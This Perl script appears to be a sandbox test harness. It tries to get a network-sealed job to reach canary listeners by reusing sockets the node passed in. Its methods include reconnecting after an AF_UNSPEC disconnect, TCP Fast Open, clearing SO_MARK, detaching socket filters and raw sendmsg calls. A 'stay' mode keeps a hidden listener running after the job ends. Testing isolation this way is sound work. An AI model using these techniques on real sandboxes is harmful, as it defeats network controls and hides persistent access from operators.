# escape.pl WAY SOCKET [HOST]: tries to get out of a sealed job by a socket of the node's, as the job's owner may.
# SOCKET: the number of a descriptor that was given, or 'own' for one made like it: the twin, in a job that is not sealed.
# Prints 'got out', or what stood against it.
use strict; use warnings; use Socket qw(:DEFAULT inet_pton sockaddr_family pack_sockaddr_in6 IN6ADDR_ANY);
my ($way, $given, $host) = @ARGV;
$host ||= '10.77.0.1';
my ($tcp, $udp, $raw) = (7000, 7001, 7002);   # of the canaries on $host
my $unspec = pack('S x14', 0);
$SIG{ALRM} = sub { print "timed out\n"; exit };
alarm 8;

sub made { my ($type) = @_; my $six = $host =~ /:/;   # on some port that is free
  socket(my $s, $six ? AF_INET6 : AF_INET, $type, 0) or die $!;
  for my $try (1 .. 20) { my $port = 7100 + int rand 800;
    last if bind($s, $six ? pack_sockaddr_in6($port, IN6ADDR_ANY) : sockaddr_in($port, INADDR_ANY)); die "bind: $!" if $try == 20 }
  listen($s, 5) if $type == SOCK_STREAM; $s }
sub taken { my ($type) = @_; return made($type) if $given eq 'own'; open(my $s, '+<&=', $given) or die "descriptor $given: $!"; $s }
sub address { my ($s, $port) = @_;   # of $host, as the socket's family writes it
  return pack_sockaddr_in($port, inet_aton($host)) if sockaddr_family(getsockname $s) == AF_INET;
  pack_sockaddr_in6($port, inet_pton(AF_INET6, $host =~ /:/ ? $host : "::ffff:$host")) }
sub port { my ($s) = @_; print STDERR 'port ', unpack('x2 n', getsockname $s), "\n"; $s }
sub told { my ($s) = @_; syswrite($s, "escaped by $way\n"); shutdown($s, 1); my $heard = ''; sysread($s, $heard, 100); print $heard =~ /canary/ ? "got out\n" : "not heard\n" }
sub turned { my ($s, $port) = @_; connect($s, $unspec); connect($s, address($s, $port)) ? told($s) : print "connect: $!\n" }

if ($way eq 'listener') { turned(taken(SOCK_STREAM), $tcp) }
elsif ($way eq 'peer') { turned(taken(SOCK_STREAM), $raw) }
elsif ($way eq 'accepted') { my $l = port(taken(SOCK_STREAM)); accept(my $s, $l) or die $!; turned($s, $tcp) }
elsif ($way eq 'fastopen') {   # TCP_FASTOPEN_NO_COOKIE is 34, MSG_FASTOPEN 0x20000000
  my $s = taken(SOCK_STREAM); connect($s, $unspec); setsockopt($s, 6, 34, pack('i', 1));
  defined(send($s, "escaped by fastopen\n", 0x20000000, address($s, $tcp))) ? told($s) : print "send: $!\n" }
elsif ($way eq 'rebind') { my $s = taken(SOCK_STREAM); connect($s, $unspec); print bind($s, sockaddr_in(7999, INADDR_ANY)) ? "got out\n" : "bind: $!\n" }
elsif ($way eq 'unmark') { my $s = taken(SOCK_STREAM); print setsockopt($s, SOL_SOCKET, 36, pack('i', 0)) ? "cleared\n" : "clear: $!\n"; print setsockopt($s, SOL_SOCKET, 27, pack('i', 0)) ? "detached\n" : "detach: $!\n" }
elsif ($way eq 'udp') { my $s = taken(SOCK_DGRAM); defined(send($s, "escaped by udp\n", 0, address($s, $udp))) ? print "sent\n" : print "send: $!\n" }
elsif ($way eq 'unmarked') {   # a datagram that says its own SO_MARK: sendmsg(2) with a struct cmsghdr of SOL_SOCKET
  my $s = taken(SOCK_DGRAM); my ($to, $text, $control) = (address($s, $udp), "escaped unmarked\n", pack('q l l l x4', 20, 1, 36, 0));
  my $vector = pack('P q', $text, length $text); my $message = pack('P l x4 P q P q l x4', $to, length $to, $vector, 1, $control, length $control, 0);
  print syscall(46, fileno $s, $message, 0) >= 0 ? "sent\n" : "send: $!\n" }
elsif ($way eq 'echo') {   # what a listener is for
  my $s = port(taken(SOCK_DGRAM)); my $from = recv($s, my $heard, 100, 0); print defined(send($s, "answer\n", 0, $from)) ? "answered\n" : "send: $!\n" }
elsif ($way eq 'serve') { my $l = port(taken(SOCK_STREAM)); accept(my $s, $l) or die $!; syswrite($s, "served\n") }
elsif ($way eq 'stay') {   # outlives the job with a listener that no table shows; CLONE_NEWUSER | CLONE_NEWNET
  my $l = taken(SOCK_STREAM); alarm 0; $| = 1; exit if fork; syscall(112); syscall(272, 0x50000000) == 0 or die $!; shutdown($l, 2);
  print "stays\n"; open($_, '+<', '/dev/null') for *STDIN, *STDOUT, *STDERR; sleep 1000 }
elsif ($way eq 'plain') { socket(my $s, AF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in($tcp, inet_aton($host))) ? told($s) : print "connect: $!\n" }
else { die "no such way" }
